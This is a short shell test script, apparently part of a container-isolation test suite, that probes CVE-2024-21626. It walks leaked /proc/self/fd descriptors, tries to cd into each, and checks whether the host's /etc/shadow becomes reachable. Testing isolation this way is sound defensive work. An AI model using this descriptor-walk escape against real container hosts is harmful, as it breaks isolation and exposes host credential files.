# title: start in, or change to, a directory that the root does not hold
# wall: descriptors
# source: CVE-2024-21626
. ./attack.sh
case $(/bin/pwd -P) in /workspace) ;; *) escaped "cwd $(/bin/pwd -P)" ;; esac
for fd in $(seq 0 255); do
    if cd "/proc/self/fd/$fd" 2>/dev/null; then
        if [ -e "$PWD/../../../../../etc/shadow" ] || [ -e ./etc/shadow ] || [ -e ./1/status ]; then escaped "through descriptor $fd"; fi
        cd /workspace || exit 1
    fi
done
held "no way by 256 descriptors"
